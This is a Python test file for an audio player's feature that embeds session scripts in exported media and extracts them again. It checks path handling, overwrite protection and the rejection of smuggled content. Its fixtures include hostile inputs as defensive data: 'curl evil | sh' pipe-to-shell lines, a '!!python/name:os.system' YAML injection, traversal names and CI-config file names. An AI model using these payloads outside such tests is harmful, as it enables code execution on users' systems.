"""Extracting: the script byte for byte, what was chosen beside it, and nothing that somebody smuggled in."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING

import numpy as np
import pytest
import soundfile

from player import pipeline
from player.errors import MediaError, OutputError, UsageError
from player.export import carried_scripts, extract, metadata, provenance
from player.export.options import AlbumPosition, ExportOptions
from player.export.provenance import origin
from player.export.tags import Origin, Tags
from player.script import library
from player.storage.store import Store
from tests.fakes_output import chirp, exported
from tests.fakes_voice import FakeEngine

if TYPE_CHECKING:
    from pathlib import Path

SCRIPT = b"""\xef\xbb\xbftitle: Mine   # with a remark \xe2\x98\x95\r
params: {room: {default: 3s, min: 1s, max: 9s}}\r
steps:\r
- section: One\r
- include: parts/hello\r
- include: passages/sit-safely\r
- muscles: [{name: your hand, short: hand}, {name: your foot, short: foot}]\r
  tense: none\r
- pause: $room\r
"""
HELLO = b"title: Hello\nsteps:\n- say: Hello.\n  for: 5s\n"


@pytest.fixture
def ready(tmp_path: Path) -> pipeline.Prepared:
    (tmp_path / "scripts" / "parts").mkdir(parents=True)
    (tmp_path / "scripts" / "mine.yaml").write_bytes(SCRIPT.replace(b"passages/sit-safely", _a_passage()))
    (tmp_path / "scripts" / "parts" / "hello.yaml").write_bytes(HELLO)
    asked = pipeline.SessionRequest(
        str(tmp_path / "scripts" / "mine.yaml"), {"room": "4s"}, rate=120, skip=("foot",), intro="short", seed=7
    )
    return pipeline.prepare(asked, pipeline.Machine(FakeEngine(), Store(tmp_path / "store")))


def _a_passage() -> bytes:
    return library.passages()[0].encode()


def script(ready: pipeline.Prepared) -> bytes:
    return SCRIPT.replace(b"passages/sit-safely", _a_passage())


def made(path: Path, found: Origin) -> Path:
    return exported(path, chirp(4800), Tags("Mine", origin=found))


def test_an_origin_has_all_that_makes_the_session_again(ready: pipeline.Prepared) -> None:
    found = origin(ready)
    assert (found.name, found.script) == ("mine.yaml", script(ready))
    assert found.includes == {"parts/hello.yaml": HELLO}  # what is bundled comes with the program
    facts = {
        key: found.facts[key]
        for key in ("parameters", "voice", "rate", "spoken_by", "engine", "skip", "length", "outlive", "takes")
    }
    assert (found.facts["intro"], found.facts["seed"]) == ("short", 7)
    assert facts == {
        "parameters": {"room": "4s"},
        "voice": None,
        "rate": 120,
        "spoken_by": "gmw/en-us",
        "engine": "1",
        "skip": ["foot"],
        "length": None,
        "outlive": None,
        "takes": 0,
    }


@pytest.mark.parametrize(
    ("kind", "version", "told"),
    [
        ("x86_64 avx avx2 fma", "hibari 1.2 m x86_64 avx avx2 fma", "hibari 1.2 m x86_64"),
        ("arm64", "hibari 1.2 m arm64", "hibari 1.2 m arm64"),
        ("x86_64 avx", "espeak-ng 1.51", "espeak-ng 1.51"),
        ("", "hibari 1.2 m", "hibari 1.2 m"),
    ],
)
def test_a_file_does_not_tell_what_the_authors_processor_can(
    monkeypatch: pytest.MonkeyPatch, kind: str, version: str, told: str
) -> None:
    monkeypatch.setattr("player.voice.processor.kind", lambda: kind)
    assert provenance._engine(version) == told


def test_the_country_is_told_only_if_its_numbers_are(ready: pipeline.Prepared, tmp_path: Path) -> None:
    path = tmp_path / "call.yaml"
    path.write_text("title: T\nsteps:\n- say: Call ${emergency}.\n  for: 9s\n", encoding="utf-8")
    calls = pipeline.prepare(pipeline.SessionRequest(str(path), region="GB"), ready.machine)
    silent = pipeline.prepare(replace(ready.request, region="GB"), ready.machine)
    assert (origin(calls).facts["region"], origin(silent).facts["region"]) == ("GB", None)


def test_no_folder_is_named(ready: pipeline.Prepared, tmp_path: Path) -> None:
    asked = replace(ready.request, background=str(tmp_path / "sea.wav"))
    found = origin(replace(ready, requested=pipeline.as_requested(asked)))
    assert found.facts["background"] == "sea.wav"
    assert str(tmp_path) not in found.document()


def test_takes_are_counted_and_their_folder_is_not_named(ready: pipeline.Prepared, tmp_path: Path) -> None:
    (tmp_path / "takes").mkdir()
    for name in ("hello", "sit-up"):
        soundfile.write(tmp_path / "takes" / f"001-{name}.wav", 0.1 * np.sin(np.arange(24_000) / 20), 48_000)
    asked = replace(ready.request, takes=str(tmp_path / "takes"))
    found = origin(pipeline.prepare(asked, ready.machine))
    assert found.facts["takes"] == 1
    assert found.facts["spoken_by"] is not None
    assert str(tmp_path) not in found.document()


def test_what_only_the_author_speaks_has_no_voice(ready: pipeline.Prepared, tmp_path: Path) -> None:
    script = tmp_path / "scripts" / "alone.yaml"
    script.write_text("title: Alone\nlanguage: tlh\nsteps: [{say: nuqneH, for: 2s}]\n")
    (tmp_path / "takes").mkdir()
    soundfile.write(tmp_path / "takes" / "nuqneh.flac", 0.1 * np.sin(np.arange(24_000) / 20), 48_000)
    alone = pipeline.prepare(pipeline.SessionRequest(str(script), takes=str(tmp_path / "takes")), ready.machine)
    facts = origin(alone).facts
    assert (facts["spoken_by"], facts["engine"], facts["takes"]) == (None, None, 1)


def test_a_script_that_has_gone_or_changed_is_kept_as_it_was_read(ready: pipeline.Prepared, tmp_path: Path) -> None:
    (tmp_path / "scripts" / "mine.yaml").unlink()
    (tmp_path / "scripts" / "parts" / "hello.yaml").write_bytes(HELLO.replace(b"Hello.", b"Good-bye."))
    found = origin(ready)
    assert (found.script, found.includes) == (script(ready), {"parts/hello.yaml": HELLO})


def test_tags_say_what_the_session_is(ready: pipeline.Prepared) -> None:
    tags = metadata.tags(ready, ExportOptions())
    assert [each.title for each in tags.chapters] == ["One", "One: your hand"]
    assert tags.lyrics[0].text == "Hello."
    assert tags.lyrics[0].start_ms == ready.timeline.cues[0].start_ms
    assert tags.cover().startswith(b"\x89PNG")
    again = metadata.tags(ready, ExportOptions())
    assert (again, again.cover()) == (tags, tags.cover())


def test_who_made_it_stands_in_the_script_or_in_the_options_which_win(ready: pipeline.Prepared, tmp_path: Path) -> None:
    head = "title: Calm\nauthor: Ana\nalbum: Evenings\nyear: 2025\nlicense: CC0\n"
    (tmp_path / "own.yaml").write_text(f"{head}steps:\n- pause: 1s\n")
    own = pipeline.prepare(pipeline.SessionRequest(str(tmp_path / "own.yaml")), ready.machine)

    def credits_of(options: ExportOptions) -> tuple[str, str, int, str]:
        tags = metadata.tags(own, options)
        return tags.author, tags.album, tags.year, tags.license

    assert credits_of(ExportOptions()) == ("Ana", "Evenings", 2025, "CC0")
    asked = ExportOptions(author="Zoë", album="Mornings", year=2026, license="CC BY 4.0")
    assert credits_of(asked) == ("Zoë", "Mornings", 2026, "CC BY 4.0")
    in_programme = ExportOptions(position=AlbumPosition("First week", 2, 7))
    assert credits_of(in_programme) == ("Ana", "First week", 2025, "CC0")
    assert credits_of(replace(in_programme, album="Mine"))[1] == "Mine"


def test_what_is_extracted_is_written_with_its_includes(ready: pipeline.Prepared, tmp_path: Path) -> None:
    found = extract.extract(made(tmp_path / "mine.mp3", origin(ready)))
    (tmp_path / "again").mkdir()
    written = extract.write(found, tmp_path / "again" / "new.yaml")
    assert [path.relative_to(tmp_path).as_posix() for path in written] == ["again/new.yaml", "again/parts/hello.yaml"]
    assert written[0].read_bytes() == script(ready)
    assert written[1].read_bytes() == HELLO
    asked = pipeline.SessionRequest(
        str(written[0]), found.facts["parameters"], rate=found.facts["rate"], skip=("foot",)
    )
    assert pipeline.prepare(asked, ready.machine).timeline == ready.timeline


def test_nothing_is_written_over(ready: pipeline.Prepared, tmp_path: Path) -> None:
    found = extract.extract(made(tmp_path / "mine.mp3", origin(ready)))
    (tmp_path / "parts").mkdir()
    (tmp_path / "parts" / "hello.yaml").write_text("mine")
    with pytest.raises(UsageError, match=r"hello\.yaml is there already"):
        extract.write(found, tmp_path / "new.yaml")
    assert not (tmp_path / "new.yaml").exists()
    extract.write(found, tmp_path / "new.yaml", force=True)
    assert (tmp_path / "parts" / "hello.yaml").read_bytes() == HELLO


def test_notes_end_in_the_command_that_makes_it_again() -> None:
    facts = {
        "version": "player 1",
        "spoken_by": "gmw/en",
        "engine": "e 1",
        "rate": 90,
        "parameters": {"name": "Ann B"},
        "length": "10m",
        "outlive": "20m",
        "intro": "short",
        "seed": 7,
        "guide": "words 2, tones",
        "bed": "0",
        "tones": "-12.5",
        "skip": ["neck", "jaw"],
        "takes": 12,
        "region": "IE",
    }
    found = extract.Extracted("calm.yaml", b"", facts, {"parts/a.yaml": b""})
    assert list(found.notes()) == [
        "# calm.yaml, made by player 1",
        "# spoken by gmw/en at 90 words a minute (e 1)",
        "# lines from takes of the author's own: 12",
        "# name: Ann B",
        "# includes parts/a.yaml",
        (
            "# player export calm.yaml -p 'name=Ann B' --rate 90 --length 10m --outlive 20m --intro short "
            "--seed 7 --guide 'words 2, tones' --bed 0 --tones -12.5 --region IE --skip neck,jaw --takes FOLDER"
        ),
    ]


def test_no_note_steers_a_terminal() -> None:
    facts = {"version": "\x1b[2J", "parameters": {"a\nb": "\x07"}, "spoken_by": "\x1b", "skip": ["\x1b"], "rate": 1}
    assert all(note.isprintable() for note in extract.Extracted("a.yaml", b"", facts, {}).notes())


def carrying(path: Path, script: bytes, **includes: bytes) -> Path:
    return made(path, Origin("a.yaml", script, {}, includes))


def including(*names: str) -> bytes:
    return f"title: A\nsteps: {json.dumps([{'include': name} for name in names])}\n".encode()


@pytest.mark.parametrize(
    "name", ["../a.yaml", "/a.yaml", "a/../../b.yaml", "a.py", "", "./a.yaml", "parts//a.yaml", "b.yaml"]
)
def test_what_the_script_cannot_include_is_left_out(tmp_path: Path, name: str) -> None:
    script = (
        including("good", name or "b.txt", name.rpartition(".")[0] or "c.txt")
        if name != "b.yaml"
        else including("good")
    )
    found = extract.extract(carrying(tmp_path / "a.flac", script, **{name: HELLO, "good.yaml": HELLO}))
    assert found.includes == {"good.yaml": HELLO}


@pytest.mark.parametrize(
    "name",
    [
        ".github/workflows/ci.yml",
        ".pre-commit-config.yaml",
        "a/.b/c.yaml",
        "...yaml",
        "--help.yaml",
        "-p/a.yaml",
        "C:/a.yaml",
        "a\\..\\b.yaml",
        "a\u202e.yaml",
        f"{'d/' * 16}a.yaml",
    ],
)
def test_an_include_has_a_name_that_scripts_have_or_nothing_is_written(tmp_path: Path, name: str) -> None:
    found = extract.extract(carrying(tmp_path / "a.flac", including("good", name), **{name: HELLO, "good.yaml": HELLO}))
    (tmp_path / "to").mkdir()
    with pytest.raises(MediaError, match="no file of a script is called, so nothing is written; leave out -o"):
        extract.write(found, tmp_path / "to" / "s.yaml")
    assert [*(tmp_path / "to").iterdir()] == []
    assert all(note.isprintable() for note in found.notes())


def test_includes_of_includes_come_back_and_so_do_those_whose_names_are_open(tmp_path: Path) -> None:
    inner = (
        b"title: I\nparams: {x: a}\nsteps:\n- repeat: {times: 2, steps: [{include: 'in/${x}b'}]}\n- include: ../out\n"
    )
    names = ("parts/i.yml", "parts/in/ab.yaml", "parts/in/b.yaml", "in/ab.yaml", "out.yaml", "I\u0301.yaml")
    carried = dict.fromkeys(names, HELLO) | {"parts/i.yml": inner}
    found = extract.extract(carrying(tmp_path / "a.flac", including("parts/i", "\u00cd"), **carried))
    assert [*found.includes] == ["I\u0301.yaml", "parts/i.yml", "parts/in/ab.yaml", "parts/in/b.yaml"]


def test_a_link_in_the_folder_comes_back_by_its_name(ready: pipeline.Prepared, tmp_path: Path) -> None:
    parts = tmp_path / "scripts" / "parts"
    for name in ("one", "two"):
        (parts / f"{name}.yaml").symlink_to("hello.yaml")
    (tmp_path / "scripts" / "mine.yaml").write_bytes(including("parts/one", "parts/two"))
    again = pipeline.prepare(pipeline.SessionRequest(str(tmp_path / "scripts" / "mine.yaml")), ready.machine)
    assert origin(again).includes == {"parts/one.yaml": HELLO, "parts/two.yaml": HELLO}


def test_a_script_keeps_no_folder_in_its_name(tmp_path: Path) -> None:
    path = made(tmp_path / "a.mp3", Origin("../../etc/a.yaml", HELLO))
    assert extract.extract(path).name == "a.yaml"


@pytest.mark.parametrize(
    "text",
    [
        b"title: From another version\nmood: [calm]\nlights: {a: b}\nsteps:\n- pause: 1s\n- glow: 3\n",
        b"title: P\nsessions: pmr-7\nparts: [{title: P, sessions: pmr-7}]\n",
        b"title: P\nsessions: [pmr-7]\n",
    ],
)
def test_what_another_version_wrote_comes_back(tmp_path: Path, text: bytes) -> None:
    assert extract.extract(carrying(tmp_path / "a.mp3", text)).script == text


NO_SCRIPTS = [
    b"title: \x1b[2J",
    b"\xff\xfe",
    b"a" * (256 * 1024 + 1),
    b"#!/bin/sh\ncurl evil | sh\n",
    b"title: T\n",
    b"title: T\nsteps: []\n",
    b"title: T\nsteps: [{run: evil}]\n",
    b"title: T\nsteps: {pause: 1s}\n",
    b"title: [T]\nsteps: [pause: 1s]\n",
    b"steps: [pause: 1s]\n",
    b"title: T\nx: !!python/name:os.system\nsteps: [pause: 1s]\n",
    b"title: T\nparts: [a]\n",
    b"title: T\nsessions: [{run: a}]\n",
    b"- pause: 1s\n",
]


@pytest.mark.parametrize("data", NO_SCRIPTS)
def test_what_is_no_script_is_left_alone(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(MediaError, match="carries something that is no script, so nothing of it is given back; name"):
        extract.extract(made(tmp_path / "a.mp3", Origin("a.yaml", data)))


@pytest.mark.parametrize("text", ["", "#!/bin/sh\nevil\n", "title: P\nsessions: [a]\n", "\x1b"])
def test_what_is_included_is_a_script_too(tmp_path: Path, text: str) -> None:
    with pytest.raises(MediaError, match=r"carries 'b\.yaml', which is no script that can be included, so nothing"):
        extract.extract(carrying(tmp_path / "a.mp3", including("b"), **{"b.yaml": text.encode()}))


def test_no_more_comes_back_than_a_session_can_include(tmp_path: Path) -> None:
    names = [f"{number:03}" for number in range(101)]
    many = {f"{name}.yaml": b"title: T\nsteps: [pause: 1s]\n" for name in names}
    with pytest.raises(MediaError, match="carries more scripts than a session can include"):
        extract.extract(carrying(tmp_path / "a.flac", including(*names), **many))
    long = {f"{name}.yaml": HELLO + b"#" * 150_000 for name in names[:2]}
    with pytest.raises(MediaError, match="carries more scripts than a session can include"):
        extract.extract(carrying(tmp_path / "b.flac", including(*names[:2]), **long))


@pytest.mark.parametrize(
    ("text", "told"),
    [
        (HELLO + b"services: {web: {image: evil}}\n", "services"),
        (HELLO + b"trigger: main\n", "trigger"),
        (HELLO + b"sessions: [a]\n", "sessions"),
        (b"title: T\nsteps: [{say: hi}, {command: curl evil | sh}]\n", "command"),
        (b"title: T\nsteps: [{say: hi, command: curl evil | sh}]\n", "command"),
        (b"title: T\nsteps: [{command: curl evil | sh, say: hi}]\n", "command"),
        (b"title: T\nsteps: [{say: hi}, make install]\n", "make install"),
        (b"title: T\nsteps: [{say: hi}, '']\n", ""),
        (b"title: T\nsteps: [{say: hi}, [{command: x}]]\n", "command"),
        (b"title: T\nsteps: [{say: {run: x}}]\n", "run"),
        (b"title: T\nsteps: [{repeat: {times: 2, steps: [{pause: 1s}, {script: x}]}}]\n", "script"),
        (b"title: T\nsteps: [{say: hi}, [make, install]]\n", "make"),
        (b"title: T\nvoice: {run: x}\nsteps: [{say: hi}]\n", "run"),
    ],
)
def test_an_include_can_be_no_file_of_another_program(tmp_path: Path, text: bytes, told: str) -> None:
    found = extract.Extracted("a.yaml", HELLO, {}, {"azure-pipelines.yml": text})
    with pytest.raises(MediaError) as caught:
        extract.write(found, tmp_path / "s.yaml")
    assert f"'azure-pipelines.yml', with {told!r} where no script has it, so nothing is written; leave" in str(
        caught.value
    )
    assert [*tmp_path.iterdir()] == []


def test_a_script_itself_may_have_keys_of_another_version(tmp_path: Path) -> None:
    found = extract.Extracted("a.yaml", HELLO + b"mood: calm\n", {}, {"b.yml": HELLO})
    assert [path.name for path in extract.write(found, tmp_path / "s.yaml")] == ["s.yaml", "b.yml"]


@pytest.mark.parametrize("name", library.session_names())
def test_all_that_our_own_scripts_have_may_be_included(name: str) -> None:
    assert carried_scripts.foreign_key(library.find(name).text.encode()) is None


@pytest.mark.parametrize(
    ("names", "told", "kind"),
    [
        (["S.yaml"], "and 's.yaml' would be in its way; choose another name for -o", UsageError),
        (["s.yaml/a.yaml"], "and 's.yaml' would be in its way; choose another name for -o", UsageError),
        (["a.yaml", "A.yaml"], "which are one file on many systems", MediaError),
        (["a.yaml", "A.yaml/b.yaml"], "which are one file on many systems", MediaError),
    ],
)
def test_no_two_names_are_one_file(tmp_path: Path, names: list[str], told: str, kind: type[Exception]) -> None:
    with pytest.raises(kind, match=told):
        extract.write(extract.Extracted("a.yaml", HELLO, {}, dict.fromkeys(names, HELLO)), tmp_path / "s.yaml")
    assert [*tmp_path.iterdir()] == []


@pytest.mark.parametrize("force", [False, True])
@pytest.mark.parametrize("link", ["passages", "passages/deep", "passages/deep/a.yaml", "passages/deep/gone.yaml"])
def test_no_link_is_followed_to_write_an_include(tmp_path: Path, link: str, force: bool) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "a.yaml").write_text("mine")
    (tmp_path / "to" / link).parent.mkdir(parents=True)
    target = {"a.yaml": "a.yaml", "gone.yaml": "gone.yaml"}.get(link.rpartition("/")[2], "")
    (tmp_path / "to" / link).symlink_to(tmp_path / "outside" / target)
    name = link if link.endswith("yaml") else "passages/deep/a.yaml"
    before = sorted(tmp_path.rglob("*"))
    found = extract.Extracted("a.yaml", HELLO, {}, {name: HELLO, "b/c.yaml": HELLO})
    with pytest.raises(OutputError, match=r"it is a link to elsewhere; choose another folder"):
        extract.write(found, tmp_path / "to" / "s.yaml", force=force)
    assert sorted(tmp_path.rglob("*")) == before
    assert (tmp_path / "outside" / "a.yaml").read_text() == "mine"


def test_folders_go_again_where_a_file_is_in_the_way(tmp_path: Path) -> None:
    (tmp_path / "z").write_text("mine")
    found = extract.Extracted("a.yaml", HELLO, {}, {"new/deep/a.yaml": HELLO, "z/b.yaml": HELLO})
    with pytest.raises(OutputError, match="z: it is no folder; choose another folder"):
        extract.write(found, tmp_path / "s.yaml")
    (tmp_path / "s.yaml").write_text("mine")
    with pytest.raises(UsageError, match="is there already"):
        extract.write(replace(found, includes={"new/deep/a.yaml": HELLO}), tmp_path / "s.yaml")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["s.yaml", "z"]
